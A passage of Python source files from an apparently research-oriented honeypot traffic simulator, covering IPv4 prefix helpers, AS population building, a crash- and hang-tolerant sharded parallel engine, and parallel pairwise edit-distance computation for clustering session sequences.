        return base + rng.randint(1, 254)

    def __str__(self) -> str:
        return f"{int_to_ip(self.network)}/{self.length}"


def parse_prefix(text: str) -> Prefix:
    """Parse ``a.b.c.d/len`` notation."""
    address, _, length_text = text.partition("/")
    if not length_text:
        raise ValueError(f"missing prefix length in {text!r}")
    return Prefix(ip_to_int(address), int(length_text))


#: Address ranges the allocator must never hand out (reserved space).
RESERVED_PREFIXES = (
    parse_prefix("0.0.0.0/8"),
    parse_prefix("10.0.0.0/8"),
    parse_prefix("100.64.0.0/10"),
    parse_prefix("127.0.0.0/8"),
    parse_prefix("169.254.0.0/16"),
    parse_prefix("172.16.0.0/12"),
    parse_prefix("192.168.0.0/16"),
    parse_prefix("224.0.0.0/3"),
)


def is_reserved(address: int) -> bool:
    """Whether ``address`` falls in reserved/non-routable space."""
    return any(prefix.contains(address) for prefix in RESERVED_PREFIXES)
