"""Builders for the baseline AS population.

Creates the client-side Internet (mostly ISP/NSP eyeball networks, per
the Figure 7 finding that attacking clients sit in ISP/NSP space) and
the 65 ASes hosting honeypots.  Malware *storage* ASes are created later
by the attacker-infrastructure module, because their registration dates
are tied to when the attacker activates them (Figure 8(a)).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import date, timedelta

from repro.net.asn import ASRecord, ASRegistry, ASType
from repro.net.geo import random_country
from repro.util.rng import RngTree

#: (type, count, (min /24s, max /24s), share of client traffic) — the
#: traffic share drives Figure 7's left side: clients overwhelmingly in
#: ISP/NSP space, some in Hosting, few in CDN/Other.
CLIENT_AS_PLAN: list[tuple[ASType, int, tuple[int, int], float]] = [
    (ASType.ISP_NSP, 260, (64, 8192), 0.80),
    (ASType.HOSTING, 90, (2, 512), 0.13),
    (ASType.OTHER, 40, (1, 128), 0.05),
    (ASType.CDN, 10, (256, 4096), 0.02),
]


@dataclass
class BasePopulation:
    """The pre-attack Internet: registry plus client/honeypot AS pools."""

    registry: ASRegistry
    client_ases: list[ASRecord]
    client_weights: list[float]
    honeypot_ases: list[ASRecord]

    def weighted_client_as(self, rng: random.Random) -> ASRecord:
        """Pick a client AS according to the traffic-share plan."""
        point = rng.random() * sum(self.client_weights)
        cumulative = 0.0
        for record, weight in zip(self.client_ases, self.client_weights):
            cumulative += weight
            if point <= cumulative:
                return record
        return self.client_ases[-1]


def _log_uniform(rng: random.Random, low: int, high: int) -> int:
    """Integer sampled log-uniformly in ``[low, high]``."""
    import math

    return int(round(math.exp(rng.uniform(math.log(low), math.log(high)))))


def build_base_population(
    rng_tree: RngTree, n_honeypot_ases: int = 65
) -> BasePopulation:
    """Create the registry with client and honeypot AS populations."""
    registry = ASRegistry()
    rng = rng_tree.child("population").rand()
    client_ases: list[ASRecord] = []
    client_weights: list[float] = []
    for as_type, count, (low, high), share in CLIENT_AS_PLAN:
        per_as_weights = [rng.expovariate(1.0) + 0.05 for _ in range(count)]
        weight_total = sum(per_as_weights)
        for index in range(count):
            registered = _old_registration(rng)
            record = registry.create(
                as_type=as_type,
                registered=registered,
                n_slash24=_log_uniform(rng, low, high),
                country=random_country(rng),
            )
            client_ases.append(record)
            client_weights.append(share * per_as_weights[index] / weight_total)

    honeypot_ases = [
        registry.create(
            as_type=ASType.ISP_NSP,
            registered=_old_registration(rng),
            n_slash24=_log_uniform(rng, 16, 1024),
            name=f"AS-HONEYNET-HOST-{index}",
            country=random_country(rng),
        )
        for index in range(n_honeypot_ases)
    ]
    return BasePopulation(
        registry=registry,
        client_ases=client_ases,
        client_weights=client_weights,
        honeypot_ases=honeypot_ases,
    )


def _old_registration(rng: random.Random) -> date:
    """Registration date for established networks (1995–2020)."""
    start = date(1995, 1, 1)
    span_days = (date(2020, 12, 31) - start).days
    return start + timedelta(days=rng.randrange(span_days))
