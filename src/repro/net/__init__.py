"""Network substrate: IPv4 math, AS registry, historical WHOIS, geo."""

from repro.net.asn import ASRecord, ASRegistry, ASType, PrefixAllocator
from repro.net.geo import COUNTRIES, country_codes, pick_countries, random_country
from repro.net.ipv4 import (
    MAX_IPV4,
    Prefix,
    int_to_ip,
    ip_to_int,
    is_reserved,
    parse_prefix,
    slash24_base,
)
from repro.net.population import BasePopulation, build_base_population
from repro.net.routing import count_slash24, deaggregate, size_bucket
from repro.net.whois import HistoricalWhois, WhoisResult

__all__ = [
    "ASRecord",
    "ASRegistry",
    "ASType",
    "PrefixAllocator",
    "COUNTRIES",
    "country_codes",
    "pick_countries",
    "random_country",
    "MAX_IPV4",
    "Prefix",
    "int_to_ip",
    "ip_to_int",
    "is_reserved",
    "parse_prefix",
    "slash24_base",
    "BasePopulation",
    "build_base_population",
    "count_slash24",
    "deaggregate",
    "size_bucket",
    "HistoricalWhois",
    "WhoisResult",
]
