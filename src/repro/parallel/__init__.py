"""Deterministic parallel execution engine.

Two independently useful halves, both proven digest-identical to the
serial pipeline by the differential suite in ``tests/test_parallel.py``:

* :func:`repro.parallel.engine.run_simulation_parallel` — the sharded
  day-loop (reached via ``run_simulation(..., workers=N)``).
* :func:`repro.parallel.distance.compact_distance_matrix_parallel` —
  the chunked pairwise-DLD pool behind
  ``distance_matrix(..., workers=N)``.

See ``docs/parallelism.md`` for the shard/merge model and the
determinism contract.
"""

from repro.parallel.engine import ShardOutput, run_simulation_parallel
from repro.parallel.distance import (
    chunk_spans,
    compact_distance_matrix_parallel,
    pair_at,
    row_offsets,
)
from repro.parallel.shards import Shard, plan_shards

__all__ = [
    "Shard",
    "ShardOutput",
    "chunk_spans",
    "compact_distance_matrix_parallel",
    "pair_at",
    "plan_shards",
    "row_offsets",
    "run_simulation_parallel",
]
