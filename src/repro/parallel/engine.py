"""Sharded, digest-identical execution of the simulation day-loop.

The serial orchestrator walks the window one day at a time; this engine
partitions the same window into contiguous shards
(:mod:`repro.parallel.shards`) and simulates them on a
``ProcessPoolExecutor``.  Equivalence rests on three properties the
codebase already guarantees:

* **Per-day purity** — every random stream a day consumes is keyed by
  ``(component, bot, date)`` paths under the master seed (the property
  checkpoint/resume relies on), so a worker that rebuilds the substrate
  from the config produces the same records for its days as the serial
  loop would.
* **Session-counter offsets** — the one piece of cross-day state is
  each honeypot's session counter (session ids embed it).  A cheap
  counting pass (:func:`repro.attackers.orchestrator.count_day`, which
  draws the same intent/routing streams but skips the honeypot shell)
  yields per-shard per-honeypot arrival counts; prefix sums preset each
  shard's counters to exactly the values the serial loop would have
  reached.
* **Order-independent delivery** — transport faults are keyed by
  session id and collector accounting is a sum of per-record effects,
  so shard-local collectors merged in shard order reproduce the serial
  collector byte for byte (:meth:`repro.honeynet.collector.Collector.absorb`
  / :meth:`~repro.honeynet.collector.Collector.absorb_batch`).

Shard results cross the process boundary as compact column buffers
(:mod:`repro.honeynet.columnar`) — the only IPC format: the worker
encodes its record lists into a :class:`ColumnBatch` whose pickle is a
handful of flat numpy/bytes buffers, and the parent decodes with a
vectorized bulk-ingest.  The encode→decode round-trip is proven an
identity by the codec property suite (``tests/test_columnar.py``), so
the merged digest cannot move.

Checkpoints are written at shard boundaries with the same format as the
serial engine, so serial and parallel runs can resume each other's
checkpoints interchangeably.

The engine is also *crash-tolerant*: a shard worker that dies mid-run
(injected :class:`~repro.faults.corruption.WorkerCrash`, or a real
worker death breaking the pool) loses only its task-local output — the
parent deterministically re-executes the shard, and after
:data:`MAX_SHARD_ATTEMPTS` failed attempts falls back to running the
shard serially in-process.  Because every attempt presets the honeypot
counters absolutely and uses the same day streams, the recovered output
is byte-identical, so digest equality with the serial engine holds
under every crash schedule.

Crashes announce themselves; *hangs* do not.  With
``config.shard_deadline_s`` set, a hung-worker watchdog guards every
shard attempt with soft/hard deadlines
(:class:`~repro.overload.watchdog.DeadlinePolicy`): a shard past its
soft deadline is logged and counted, one past its hard deadline is
cancelled and fed into the same retry → serial-fallback ladder, so an
injected :class:`~repro.faults.corruption.WorkerHang` (or a real stall)
never blocks the run past the hard deadline.  The deadline, like the
worker count, can only change which code path produced a batch — never
its bytes.
"""

from __future__ import annotations

import logging
import multiprocessing
import time
from concurrent.futures import Future, ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeout
from concurrent.futures.process import BrokenProcessPool
from dataclasses import asdict, dataclass
from datetime import date
from pathlib import Path

from repro.attackers.orchestrator import (
    DEFAULT_CHECKPOINT_EVERY_DAYS,
    SimulationResult,
    SimulationSubstrate,
    _resume_state,
    build_substrate,
    count_day,
    simulate_day,
    _finish_result,
)
from repro.config import SimulationConfig
from repro.faults.checkpoint import save_checkpoint
from repro.faults.corruption import (
    WorkerCrash,
    WorkerHang,
    crash_point,
    hang_point,
)
from repro.honeynet.columnar import ColumnBatch
from repro.honeypot.session import SessionRecord
from repro.overload.watchdog import DeadlinePolicy, ShardDeadlineExceeded
from repro.parallel.shards import Shard, plan_shards
from repro import telemetry
from repro.util.timeutils import days_between

logger = logging.getLogger("repro.parallel")

#: Collector counter names merged across shards (mirrors the
#: checkpoint serialization so the two stay in sync).
COUNTER_KEYS = (
    "generated",
    "dropped_outage",
    "dropped_sensor_down",
    "retried",
    "deduplicated",
    "dead_lettered",
    "quarantined",
    "admitted",
    "shed",
    "deferred",
)

#: Worker attempts per shard before the parent gives up on the pool and
#: re-executes the shard serially in-process.
MAX_SHARD_ATTEMPTS = 3


@dataclass
class ShardOutput:
    """Everything one fully simulated shard sends back to the parent.

    ``sessions``/``dead_letters`` are :class:`ColumnBatch` column
    buffers from pool workers and plain record lists from the in-parent
    serial fallback (where there is no IPC to compress); the merge loop
    dispatches on the payload type.
    """

    index: int
    sessions: "list[SessionRecord] | ColumnBatch"
    dead_letters: "list[SessionRecord] | ColumnBatch"
    counters: dict[str, int]
    channel_stats: dict[str, float]
    #: Per-honeypot sessions handled inside this shard (counter deltas).
    handled: dict[str, int]
    #: Shard-local telemetry registry export (None when telemetry is
    #: disabled); merged into the parent registry in shard order.
    telemetry: dict | None = None


# ----------------------------------------------------------------------
# worker-process side
# ----------------------------------------------------------------------
# Workers prefer the substrate the parent built: under the fork start
# method the child's address space already holds it (copy-on-write), so
# rebuilding it per worker (~1s of population/fleet derivation) would be
# pure waste.  That is safe because a worker's only substrate mutations
# are the honeypot counters, which every task presets absolutely before
# simulating — a replacement worker forked mid-merge sees the same
# bytes-on-the-wire behaviour as one forked at pool start.  Under spawn
# (no inherited memory) workers rebuild from the picklable config; both
# constructions are the same pure function of the config, so behaviour
# is identical either way.

_WORKER_ARGS: tuple | None = None
_WORKER_SUBSTRATE: SimulationSubstrate | None = None
_WORKER_TELEMETRY: bool = False
#: Set (then cleared) by :func:`run_simulation_parallel` around pool
#: creation so fork-children inherit the already-built substrate.
_PARENT_SUBSTRATE: SimulationSubstrate | None = None


def _init_worker(
    config: SimulationConfig,
    extra_bots_factory,
    collect_telemetry: bool = False,
) -> None:
    global _WORKER_ARGS, _WORKER_SUBSTRATE, _WORKER_TELEMETRY
    _WORKER_ARGS = (config, extra_bots_factory)
    _WORKER_SUBSTRATE = _PARENT_SUBSTRATE
    _WORKER_TELEMETRY = collect_telemetry
    # Under the fork start method the child inherits the parent's
    # active registry; clear it so shard metrics are strictly
    # shard-local (each task enables its own fresh registry).
    telemetry.disable()


def _worker_substrate() -> SimulationSubstrate:
    global _WORKER_SUBSTRATE
    if _WORKER_SUBSTRATE is None:
        if _WORKER_ARGS is None:
            raise RuntimeError("worker used before _init_worker ran")
        _WORKER_SUBSTRATE = build_substrate(*_WORKER_ARGS)
    return _WORKER_SUBSTRATE


def _count_shard(span: tuple[str, str]) -> dict[str, int]:
    """Phase 1: per-honeypot arrival counts for one shard's days."""
    substrate = _worker_substrate()
    counts: dict[str, int] = {}
    for day in days_between(date.fromisoformat(span[0]), date.fromisoformat(span[1])):
        count_day(substrate, day, counts)
    return counts


def _run_shard(
    task: tuple[int, str, str, dict[str, int], int]
) -> ShardOutput:
    """Phase 2: fully simulate one shard with preset honeypot counters.

    ``task`` carries the attempt number so the fault model can decide,
    per ``(shard, attempt)``, whether this attempt crashes mid-run
    (:func:`repro.faults.corruption.crash_point`) or stalls
    (:func:`repro.faults.corruption.hang_point` — the worker sleeps the
    stall out and then dies like a crash, since a pool worker cannot be
    killed from outside; with a shard deadline set, the parent's
    watchdog stops waiting at the hard deadline instead).  A crashed or
    hung attempt raises before returning anything; since the collector
    is task-local and the honeypot counters are preset absolutely at the
    start of every task, the discarded partial work cannot leak into a
    retry.
    """
    index, start_iso, end_iso, base_counters, attempt = task
    substrate = _worker_substrate()
    days = list(
        days_between(date.fromisoformat(start_iso), date.fromisoformat(end_iso))
    )
    crash_after = crash_point(
        substrate.config.faults.integrity,
        substrate.config.seed,
        index,
        attempt,
        len(days),
    )
    hang = hang_point(
        substrate.config.faults.integrity,
        substrate.config.seed,
        index,
        attempt,
        len(days),
    )
    substrate.set_honeypot_counters(base_counters)
    collector = substrate.fresh_collector()
    channel = substrate.fresh_channel(collector)
    deliver = channel.deliver
    registry = telemetry.enable() if _WORKER_TELEMETRY else None
    # The shard's day loop carries the same span names as the serial
    # engine, so merged span paths line up run-for-run.
    with telemetry.span("sim.run"):
        for day_number, day in enumerate(days):
            if crash_after is not None and day_number == crash_after:
                raise WorkerCrash(
                    f"injected crash in shard {index} attempt {attempt} "
                    f"after {day_number} of {len(days)} days"
                )
            if hang is not None and day_number == hang[0]:
                time.sleep(hang[1])
                raise WorkerHang(
                    f"injected hang in shard {index} attempt {attempt} "
                    f"after {day_number} of {len(days)} days "
                    f"({hang[1]:.2f}s stall)"
                )
            with telemetry.span("sim.day"):
                simulate_day(substrate, day, deliver)
            collector.end_of_day()
            channel.flush_telemetry()
    telemetry_export = None
    if registry is not None:
        telemetry.disable()
        telemetry_export = registry.export()
    handled = {
        honeypot.honeypot_id: delta
        for honeypot in substrate.honeynet.honeypots
        if (
            delta := honeypot._counter
            - base_counters.get(honeypot.honeypot_id, 0)
        )
    }
    # Encode on the worker side so the expensive part of IPC — the
    # per-record pickling of object graphs — becomes a handful of
    # flat buffer pickles, and the encode cost itself parallelizes.
    sessions = ColumnBatch.from_records(collector.sessions)
    dead_letters = ColumnBatch.from_records(collector.dead_letters)
    return ShardOutput(
        index=index,
        sessions=sessions,
        dead_letters=dead_letters,
        counters={key: getattr(collector, key) for key in COUNTER_KEYS},
        channel_stats=asdict(channel.stats),
        handled=handled,
        telemetry=telemetry_export,
    )


# ----------------------------------------------------------------------
# parent-process side
# ----------------------------------------------------------------------

def pool_context() -> multiprocessing.context.BaseContext:
    """The cheapest start method available (fork where supported)."""
    methods = multiprocessing.get_all_start_methods()
    return multiprocessing.get_context(
        "fork" if "fork" in methods else methods[0]
    )


def _add_counts(total: dict[str, int], delta: dict[str, int]) -> None:
    for key, value in delta.items():
        total[key] = total.get(key, 0) + value


def _submit(pool: ProcessPoolExecutor, fn, arg) -> Future | None:
    """Submit, tolerating a pool that has already broken or shut down."""
    try:
        return pool.submit(fn, arg)
    except (BrokenProcessPool, RuntimeError):
        return None


def _execute_shard(
    substrate: SimulationSubstrate,
    task: tuple[int, str, str, dict[str, int]],
    deadline: DeadlinePolicy | None = None,
) -> ShardOutput:
    """Serial in-process fallback: run one shard on the parent substrate.

    Crash-free by construction (no crash hook on this path) and
    byte-identical to what a healthy worker would have returned — the
    same :func:`simulate_day` over the same days with the same preset
    counters.  The *hang* fault does fire here (a stall models lost
    time, not a death, so it cannot corrupt in-process state): the
    fallback sleeps the stall out — capped at the remaining deadline —
    and with a deadline set the hard limit still binds, raising
    :class:`ShardDeadlineExceeded` rather than blocking the run.  There
    is no further ladder below the fallback, so that raise is terminal
    by design: a hard deadline is a promise, not a hint.

    Telemetry records straight into the parent registry, so
    ``telemetry=None`` in the output (nothing to merge twice).  The
    parent's honeypot counters are overwritten absolutely by the merge
    loop afterwards, so mutating them here is safe.
    """
    index, start_iso, end_iso, base_counters = task
    days = list(
        days_between(date.fromisoformat(start_iso), date.fromisoformat(end_iso))
    )
    hang = hang_point(
        substrate.config.faults.integrity,
        substrate.config.seed,
        index,
        MAX_SHARD_ATTEMPTS,
        len(days),
    )
    deadline_at = (
        time.monotonic() + deadline.hard_s if deadline is not None else None
    )
    substrate.set_honeypot_counters(base_counters)
    collector = substrate.fresh_collector()
    channel = substrate.fresh_channel(collector)
    deliver = channel.deliver
    for day_number, day in enumerate(days):
        if hang is not None and day_number == hang[0]:
            stall = hang[1]
            if deadline_at is not None:
                stall = min(stall, max(0.0, deadline_at - time.monotonic()))
            time.sleep(stall)
            telemetry.count("overload.watchdog.fallback_stalls")
            logger.warning(
                "shard %d stalled %.2fs during serial fallback",
                index, stall,
            )
        if deadline_at is not None and time.monotonic() >= deadline_at:
            telemetry.count("overload.watchdog.hard_breaches")
            raise ShardDeadlineExceeded(
                f"serial fallback for shard {index} overran its "
                f"{deadline.hard_s:.2f}s hard deadline"
            )
        with telemetry.span("sim.day"):
            simulate_day(substrate, day, deliver)
        collector.end_of_day()
        channel.flush_telemetry()
    handled = {
        honeypot.honeypot_id: delta
        for honeypot in substrate.honeynet.honeypots
        if (
            delta := honeypot._counter
            - base_counters.get(honeypot.honeypot_id, 0)
        )
    }
    return ShardOutput(
        index=index,
        sessions=collector.sessions,
        dead_letters=collector.dead_letters,
        counters={key: getattr(collector, key) for key in COUNTER_KEYS},
        channel_stats=asdict(channel.stats),
        handled=handled,
        telemetry=None,
    )


def _await_shard(
    future: Future, deadline: DeadlinePolicy | None, shard: Shard
) -> ShardOutput:
    """Wait for one shard attempt under the watchdog's deadlines.

    Without a deadline this is a plain blocking wait.  With one, the
    soft deadline is a logged warning (a slow shard is not yet a dead
    shard) and the hard deadline cancels the attempt: the future is
    abandoned (a running pool worker cannot be killed, but its result
    will never be read) and :class:`ShardDeadlineExceeded` hands the
    shard to the retry ladder.
    """
    if deadline is None:
        return future.result()
    try:
        return future.result(timeout=deadline.soft_s)
    except FutureTimeout:
        telemetry.count("overload.watchdog.soft_breaches")
        logger.warning(
            "shard %d passed its %.2fs soft deadline; still waiting",
            shard.index, deadline.soft_s,
        )
    try:
        return future.result(timeout=deadline.hard_s - deadline.soft_s)
    except FutureTimeout:
        telemetry.count("overload.watchdog.hard_breaches")
        future.cancel()
        telemetry.count("overload.watchdog.cancellations")
        raise ShardDeadlineExceeded(
            f"shard {shard.index} overran its {deadline.hard_s:.2f}s "
            "hard deadline"
        ) from None


def _settle_shard(
    pool: ProcessPoolExecutor,
    substrate: SimulationSubstrate,
    shard: Shard,
    task: tuple[int, str, str, dict[str, int], int],
    future: Future | None,
    deadline: DeadlinePolicy | None = None,
) -> ShardOutput:
    """Resolve one shard's output, surviving crashed and hung workers.

    An attempt that dies with :class:`WorkerCrash` or
    :class:`WorkerHang` (injected), or that the watchdog cancelled at
    its hard deadline, is re-submitted — deterministic re-execution,
    byte-identical output — up to :data:`MAX_SHARD_ATTEMPTS` total
    attempts; after that, or when the pool itself breaks (a real worker
    death), the shard is re-run serially in the parent.  Every path
    returns the same bytes, so digest equality with the serial engine
    holds under every crash/hang schedule.
    """
    attempt = 1
    while future is not None:
        try:
            return _await_shard(future, deadline, shard)
        except (WorkerCrash, WorkerHang) as error:
            if isinstance(error, WorkerHang):
                telemetry.count("parallel.worker_hangs")
            else:
                telemetry.count("parallel.worker_crashes")
            logger.warning("shard %d worker died: %s", shard.index, error)
            if attempt >= MAX_SHARD_ATTEMPTS:
                logger.warning(
                    "shard %d failed %d times; giving up on the pool",
                    shard.index, attempt,
                )
                break
            telemetry.count("parallel.shard_retries")
            logger.info(
                "re-executing shard %d (attempt %d of %d)",
                shard.index, attempt + 1, MAX_SHARD_ATTEMPTS,
            )
            future = _submit(pool, _run_shard, task[:4] + (attempt,))
            attempt += 1
        except ShardDeadlineExceeded as error:
            logger.warning(
                "shard %d cancelled by the watchdog: %s", shard.index, error
            )
            if attempt >= MAX_SHARD_ATTEMPTS:
                logger.warning(
                    "shard %d breached its deadline %d times; giving up "
                    "on the pool",
                    shard.index, attempt,
                )
                break
            telemetry.count("parallel.shard_retries")
            future = _submit(pool, _run_shard, task[:4] + (attempt,))
            attempt += 1
        except BrokenProcessPool as error:
            telemetry.count("parallel.pool_failures")
            logger.error(
                "worker pool broke under shard %d: %s", shard.index, error
            )
            break
    telemetry.count("parallel.serial_fallbacks")
    logger.warning(
        "shard %d: falling back to serial in-process execution", shard.index
    )
    with telemetry.span("parallel.serial_fallback"):
        return _execute_shard(substrate, task[:4], deadline)


def _settle_counts(
    substrate: SimulationSubstrate, shard: Shard, future: Future | None
) -> dict[str, int]:
    """Resolve one shard's count-pass result, recounting inline if the
    pool failed (counting is pure, so the recount is identical)."""
    if future is not None:
        try:
            return future.result()
        except BrokenProcessPool as error:
            telemetry.count("parallel.pool_failures")
            logger.warning(
                "count pass lost for shard %d (%s); recounting inline",
                shard.index, error,
            )
    counts: dict[str, int] = {}
    for day in days_between(shard.start, shard.end):
        count_day(substrate, day, counts)
    return counts


def run_simulation_parallel(
    config: SimulationConfig,
    extra_bots_factory=None,
    *,
    workers: int,
    checkpoint_path: Path | str | None = None,
    checkpoint_every_days: int | None = None,
    resume: bool = False,
    stop_after: date | None = None,
) -> SimulationResult:
    """Sharded :func:`~repro.attackers.orchestrator.run_simulation`.

    Same contract and same output digest as the serial engine for every
    fault profile; only wall-clock differs.  Called via
    ``run_simulation(..., workers=N)`` rather than directly.
    """
    if workers < 2:
        raise ValueError("run_simulation_parallel requires workers >= 2")
    substrate = build_substrate(config, extra_bots_factory)
    collector = substrate.fresh_collector()
    honeynet = substrate.honeynet

    first_day = config.start
    if resume:
        stream_sink: list[dict] = []
        restored = _resume_state(
            checkpoint_path, config, honeynet, collector,
            stream_sink=stream_sink,
        )
        if stream_sink:
            raise ValueError(
                "checkpoint records a degraded stream supervision state, "
                "which the parallel batch engine cannot reproduce; resume "
                "it with the supervised stream engine instead"
            )
        if restored is not None:
            first_day = restored
    corruptor = None
    if checkpoint_path is not None:
        corruptor = substrate.checkpoint_corruptor()
        if checkpoint_every_days is None:
            checkpoint_every_days = DEFAULT_CHECKPOINT_EVERY_DAYS

    # The serial loop checks ``day >= stop_after`` after simulating, so
    # a stop_after before the resume cursor still simulates one day.
    last_day = config.end
    stopping = False
    if stop_after is not None and first_day <= config.end:
        last_day = min(config.end, max(stop_after, first_day))
        stopping = last_day >= stop_after

    started = time.monotonic()
    shards = plan_shards(first_day, last_day, workers)
    channel = substrate.fresh_channel(collector)
    deadline = DeadlinePolicy.from_deadline(config.shard_deadline_s)
    if not shards:
        return _finish_result(substrate, collector, channel, started)

    logger.info(
        "simulating %s..%s across %d shards on %d workers "
        "(fault profile: %s)",
        first_day, last_day, len(shards), workers, config.faults.name,
    )

    base_counters = dict(substrate.honeypot_counters())
    merged_stats = channel.stats
    cumulative = dict(base_counters)
    days_since_checkpoint = 0
    last_saved: date | None = None

    parent_registry = telemetry.active()
    if parent_registry is not None:
        parent_registry.gauge("parallel.workers", workers)
        parent_registry.count("parallel.shards", len(shards))

    global _PARENT_SUBSTRATE
    _PARENT_SUBSTRATE = substrate
    try:
        with telemetry.span("parallel.run"), ProcessPoolExecutor(
            max_workers=workers,
            mp_context=pool_context(),
            initializer=_init_worker,
            initargs=(
                config,
                extra_bots_factory,
                parent_registry is not None,
            ),
        ) as pool:
            # Phase 1: count arrivals for every shard but the last (the
            # last shard's counts are never needed as an offset).
            count_futures: list[Future | None] = [
                _submit(pool, _count_shard, shard.iso_span)
                for shard in shards[:-1]
            ]
            # Phase 2: simulate each shard with prefix-summed counters.
            run_futures: list[Future | None] = []
            tasks: list[tuple[int, str, str, dict[str, int], int]] = []
            offsets = dict(base_counters)
            for shard in shards:
                task = (shard.index, *shard.iso_span, dict(offsets), 0)
                tasks.append(task)
                run_futures.append(_submit(pool, _run_shard, task))
                if shard.index < len(count_futures):
                    _add_counts(
                        offsets,
                        _settle_counts(
                            substrate, shard, count_futures[shard.index]
                        ),
                    )
            # Merge in shard order: concatenation reproduces the serial
            # ingestion order, so the merged collector is byte-identical.
            for shard, future in zip(shards, run_futures):
                output: ShardOutput = _settle_shard(
                    pool, substrate, shard, tasks[shard.index], future,
                    deadline,
                )
                if isinstance(output.sessions, ColumnBatch):
                    if parent_registry is not None:
                        parent_registry.count(
                            "parallel.ipc_columnar_bytes",
                            output.sessions.nbytes
                            + output.dead_letters.nbytes,
                        )
                    collector.absorb_batch(
                        output.sessions, output.dead_letters, output.counters
                    )
                else:
                    collector.absorb(
                        output.sessions, output.dead_letters, output.counters
                    )
                if parent_registry is not None and output.telemetry is not None:
                    parent_registry.merge_export(output.telemetry)
                for key, value in output.channel_stats.items():
                    setattr(
                        merged_stats, key, getattr(merged_stats, key) + value
                    )
                # The folded deliveries were already counted (shard
                # registry, or inline during serial fallback) — the
                # parent channel's final flush must not re-emit them.
                channel.mark_telemetry_flushed()
                _add_counts(cumulative, output.handled)
                days_since_checkpoint += shard.days
                final_shard = shard.index == len(shards) - 1
                if checkpoint_path is not None and (
                    days_since_checkpoint >= checkpoint_every_days
                    or (final_shard and stopping)
                ):
                    substrate.set_honeypot_counters(cumulative)
                    save_checkpoint(
                        checkpoint_path, config, shard.next_day,
                        honeynet, collector, corruptor=corruptor,
                    )
                    telemetry.count("checkpoint.saves")
                    days_since_checkpoint = 0
                    last_saved = shard.end
                    logger.debug("checkpointed through %s", shard.end)
    finally:
        _PARENT_SUBSTRATE = None

    substrate.set_honeypot_counters(cumulative)
    if stopping:
        logger.info("controlled stop after %s", last_day)
    if last_saved is not None:
        logger.debug("last checkpoint covers through %s", last_saved)
    return _finish_result(substrate, collector, channel, started)
