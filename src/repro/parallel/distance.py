"""Chunked, multiprocessing-backed pairwise DLD computation.

The clustering pipeline needs the full symmetric normalized-DLD matrix
over the *distinct* token sequences — m·(m-1)/2 independent pair
computations, each a pure function of its two sequences.  This module
linearizes the upper triangle into one index space, slices it into
balanced chunks, and evaluates the chunks on a process pool.  Because
every pair is computed by the same pure function the serial path uses
(:func:`repro.analysis.distance.pair_distance`), the assembled matrix
is identical to the serial one, bit for bit.

Workers receive the distinct sequences once (via the pool initializer),
not per chunk, so the IPC cost is O(m + chunks), not O(pairs).
"""

from __future__ import annotations

from bisect import bisect_right
from concurrent.futures import ProcessPoolExecutor

import numpy as np

from repro import telemetry

#: Pairs below this threshold are not worth a process pool: the fork +
#: pickle overhead exceeds the DP work.  Callers fall back to serial.
MIN_PAIRS_FOR_POOL = 256

#: Chunks per worker: more chunks smooth the skew between cheap pairs
#: (short scout sequences) and expensive ones (long loader chains).
CHUNKS_PER_WORKER = 4

_SEQUENCES: list[tuple[str, ...]] | None = None
_ROW_OFFSETS: list[int] | None = None
_FINGERPRINT: str | None = None
_PAIRS: np.ndarray | None = None


def row_offsets(m: int) -> list[int]:
    """Linear index of the first pair of each row of the upper triangle.

    Row ``i`` holds the pairs ``(i, i+1) .. (i, m-1)``; its first pair
    has linear index ``offsets[i]``.  A trailing sentinel equal to the
    total pair count makes bisection safe for the last row.
    """
    offsets = [0] * (m + 1)
    for i in range(m):
        offsets[i + 1] = offsets[i] + (m - 1 - i)
    return offsets


def pair_at(k: int, offsets: list[int]) -> tuple[int, int]:
    """Map a linear upper-triangle index back to its ``(i, j)`` pair."""
    i = bisect_right(offsets, k) - 1
    return i, i + 1 + (k - offsets[i])


def _init_pool(sequences: list[tuple[str, ...]], fingerprint: str) -> None:
    global _SEQUENCES, _ROW_OFFSETS, _FINGERPRINT
    _SEQUENCES = sequences
    _ROW_OFFSETS = row_offsets(len(sequences))
    _FINGERPRINT = fingerprint


def _distance_chunk(span: tuple[int, int]) -> tuple[int, list[float]]:
    """Compute normalized DLD for one linear range of pairs."""
    from repro.analysis.distance import pair_distance

    start, stop = span
    sequences = _SEQUENCES
    offsets = _ROW_OFFSETS
    i, j = pair_at(start, offsets)
    m = len(sequences)
    values: list[float] = []
    for _ in range(stop - start):
        values.append(pair_distance(sequences[i], sequences[j], _FINGERPRINT))
        j += 1
        if j == m:
            i += 1
            j = i + 1
    return start, values


def _init_candidate_pool(
    sequences: list[tuple[str, ...]], pairs: np.ndarray, fingerprint: str
) -> None:
    global _SEQUENCES, _PAIRS, _FINGERPRINT
    _SEQUENCES = sequences
    _PAIRS = pairs
    _FINGERPRINT = fingerprint


def _candidate_chunk(span: tuple[int, int]) -> tuple[int, list[float]]:
    """Compute normalized DLD for one slice of the candidate-pair list."""
    from repro.analysis.distance import pair_distance

    start, stop = span
    sequences = _SEQUENCES
    pairs = _PAIRS
    values: list[float] = []
    for k in range(start, stop):
        i = int(pairs[k, 0])
        j = int(pairs[k, 1])
        values.append(pair_distance(sequences[i], sequences[j], _FINGERPRINT))
    return start, values


def chunk_spans(total_pairs: int, chunk_count: int) -> list[tuple[int, int]]:
    """Slice ``range(total_pairs)`` into at most ``chunk_count`` spans."""
    if total_pairs <= 0:
        return []
    chunk_count = max(1, min(chunk_count, total_pairs))
    base, extra = divmod(total_pairs, chunk_count)
    spans: list[tuple[int, int]] = []
    cursor = 0
    for index in range(chunk_count):
        length = base + (1 if index < extra else 0)
        spans.append((cursor, cursor + length))
        cursor += length
    return spans


def compact_distance_matrix_parallel(
    distinct: list[tuple[str, ...]],
    workers: int,
    fingerprint: str | None = None,
) -> np.ndarray:
    """The m×m compact matrix over distinct sequences, chunked over a pool."""
    from repro.analysis.tokenizer import DEFAULT_TOKENIZER
    from repro.parallel.engine import pool_context

    if fingerprint is None:
        fingerprint = DEFAULT_TOKENIZER.fingerprint
    m = len(distinct)
    total_pairs = m * (m - 1) // 2
    compact = np.zeros((m, m), dtype=np.float64)
    if total_pairs == 0:
        return compact
    offsets = row_offsets(m)
    spans = chunk_spans(total_pairs, workers * CHUNKS_PER_WORKER)
    telemetry.count("parallel.dld.chunks", len(spans))
    flat = np.zeros(total_pairs, dtype=np.float64)
    with ProcessPoolExecutor(
